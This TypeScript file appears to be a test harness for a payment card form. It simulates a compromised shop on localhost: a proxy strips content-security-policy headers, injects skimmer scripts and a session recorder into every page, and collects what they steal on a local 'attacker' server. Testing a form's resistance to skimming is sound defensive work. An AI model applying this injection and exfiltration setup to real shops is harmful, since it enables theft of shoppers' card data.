// A compromised shop: all its pages contain skimmers, and what they find is sent to the attacker's server.
import type { IncomingMessage, ServerResponse } from 'node:http';
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { text } from 'node:stream/consumers';
import { listen, type LocalServer } from '../../listen.ts';
import { LISTENING } from './listening.ts';
import { PATCHING, worker } from './patching.ts';
import type { Skimmer } from './skimmer.ts';
import { thievesOf } from './thief.ts';

/** The kinds that the address of a page with the form may ask for. Within a kind, skimmers don't steal from each other; those that leave something behind come last. */
export const KINDS = { patching: PATCHING, listening: LISTENING } as const;
type Kind = keyof typeof KINDS;
export const SKIMMERS: readonly Skimmer[] = [...LISTENING, ...PATCHING];

const RECORDER = join(dirname(createRequire(import.meta.url).resolve('rrweb')), 'rrweb.umd.min.cjs');
/** Hop-by-hop headers, and those that the attacker removes from the shop's answers. */
const NOT_PASSED_ON =
  /^(?:host|connection|content-length|transfer-encoding|keep-alive|content-encoding|content-security-policy)$/;

/** The shop itself, and the card server that its checkout speaks to. */
interface Behind {
  readonly shop: string;
  readonly cards: string;
}

export interface SkimmedShop {
  readonly url: string;
  /** From now on it passes everything on. */
  standBefore(behind: Behind): void;
  /** What each skimmer has sent to the attacker, in order of {@link SKIMMERS}. */
  readonly loot: readonly string[];
  /** Call it before another round, whose result must not depend on what was sent in the last one. */
  emptyLoot(): void;
  /** Every byte that the shop received from shoppers' browsers and the card server. */
  received(): string;
  close(): Promise<void>;
}

const urlOf = ({ port }: LocalServer): string => `http://localhost:${port}`;

const send = (response: ServerResponse, type: string, body: string | Buffer): void =>
  void response.writeHead(200, { 'content-type': `${type}; charset=utf-8` }).end(body);

export async function openSkimmedShop(): Promise<SkimmedShop> {
  const loot = SKIMMERS.map(() => '');
  const attacker = await listen(async (request, response) => {
    const body = await text(request);
    const row = Number(request.url?.slice(1));
    if (row in loot) loot[row] += `${body}\n`;
    response.writeHead(204).end();
  });

  const skimmersOf = (kind: Kind | null): string =>
    [
      '<script src="/recorder.js"></script><script>{',
      `const thiefOf = (${thievesOf.toString()})(${JSON.stringify(urlOf(attacker))});`,
      ...(kind ? KINDS[kind] : SKIMMERS).map((row) => `(${row.script.toString()})(thiefOf(${SKIMMERS.indexOf(row)}));`),
      '}</script>',
    ].join('\n');

  let behind: Behind | undefined;
  const received: string[] = [];
  const front = await listen(answer);
  const url = urlOf(front);

  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { pathname, searchParams } = new URL(request.url ?? '/', url);
    const body = await text(request);
    received.push(`${request.method} ${request.url} ${request.rawHeaders.join(' ')} ${body}`);
    if (!behind) return void response.writeHead(503).end();
    if (pathname === '/recorder.js') return send(response, 'text/javascript', await readFile(RECORDER));
    if (pathname === '/worker.js') return send(response, 'text/javascript', `(${worker.toString()})();`);
    const skimmers = skimmersOf(searchParams.get('kind') as Kind | null);
    const [, reference] = /^\/checkout\/(\w+)$/.exec(pathname) ?? [];
    if (reference) {
      const where = WHERE[(searchParams.get('where') ?? 'page') as keyof typeof WHERE](behind.cards);
      return send(response, 'text/html', checkout(reference, skimmers, behind.cards, where));
    }
    const answered = await fetch(`${behind.shop}${request.url}`, {
      method: request.method ?? 'GET',
      headers: Object.entries(request.headers).filter(([name]) => !NOT_PASSED_ON.test(name)) as [string, string][],
      redirect: 'manual',
      ...(body !== '' && { body }),
    }).catch(() => undefined);
    if (!answered) return void response.writeHead(502).end();
    const headers = Object.fromEntries([...answered.headers].filter(([name]) => !NOT_PASSED_ON.test(name)));
    response.writeHead(answered.status, headers);
    response.end((await answered.text()).replace(/^<!doctype html>/i, (start) => start + skimmers));
  }

  return {
    url,
    standBefore: (given) => (behind = given),
    loot,
    emptyLoot: () => void loot.fill(''),
    received: () => received.join('\n'),
    async close() {
      await Promise.all([front.close(), attacker.close()]);
    },
  };
}

/** Where the form is: in the shop's page, or in the card server's frame there. In the light DOM, since WebKit's driver can't type into a frame in a shadow root. */
const WHERE = {
  page: (cards: string) => `endpoint="${cards}/eximpe"`,
  frame: (cards: string) => `src="${cards}"`,
  'frame-in-light': (cards: string) => `src="${cards}" render-root="light"`,
} as const;

/** The shop's own page with the form in it, if the shop does not send shoppers to the card server's page. */
const checkout = (reference: string, skimmers: string, cards: string, where: string): string => `<!doctype html>
<html lang="en">
<title>Checkout</title>
${skimmers}
<script type="module" src="${cards}/eximpe/card-form.js"></script>
<h1>Table runner</h1>
<eximpe-card-form checkout="${reference}" ${where}></eximpe-card-form>
</html>`;
